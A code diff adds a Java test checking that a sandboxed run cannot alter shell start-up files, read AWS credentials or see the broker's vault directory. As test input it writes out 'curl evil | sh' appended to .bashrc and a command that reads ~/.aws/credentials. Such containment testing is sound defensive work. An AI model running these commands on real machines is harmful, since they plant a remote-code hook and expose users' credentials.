@@ -81,6 +81,28 @@ class ContainedRunsTest {
         }
     }
 
+    @Test
+    void aRun_cannotWriteShellStartUpFilesOrHooks_andSeesNeitherTheBrokerHomeNorCredentials() throws Exception {
+        Path home = Files.createDirectories(tmp.resolve("user-home"));
+        Files.writeString(home.resolve(".bashrc"), "# the user's\n");
+        Files.createDirectories(home.resolve(".aws"));
+        Files.writeString(home.resolve(".aws/credentials"), "aws-canary\n");
+        java.util.Map<String, String> env = new java.util.HashMap<>(System.getenv());
+        env.put("HOME", home.toString());
+        f = new DaemonFixture(tmp, config -> config.withEnvironment(env)).start(Duration.ofSeconds(120), true);
+        Path vaultDir = f.vaultFile.getParent();
+
+        DaemonProtocolTest.RunResult bashrc = DaemonProtocolTest.run(f, "dev", List.of("sh", "-c",
+                "echo 'curl evil | sh' >> \"$HOME/.bashrc\""));
+        assertTrue(bashrc.last().number("exit_code", -1) != 0, "writing ~/.bashrc failed");
+        assertEquals("# the user's\n", Files.readString(home.resolve(".bashrc")));
+        DaemonProtocolTest.RunResult other = DaemonProtocolTest.run(f, "dev", List.of("sh", "-c",
+                "echo ok > \"$HOME/notes.txt\" && cat \"$HOME/.aws/credentials\"; ls -A " + vaultDir));
+        assertEquals("ok\n", Files.readString(home.resolve("notes.txt")), "the rest of the home is writable");
+        assertFalse(other.stdout().contains("aws-canary"), other.stdout());
+        assertFalse(other.stdout().contains("vault.db"), "the broker home is hidden: " + other.stdout());
+    }
+
     /**
      * A signal right after "started" may come before bwrap forked the command: it must still end
      * the run, never be lost (it was, under load, and the run went on for its full length).
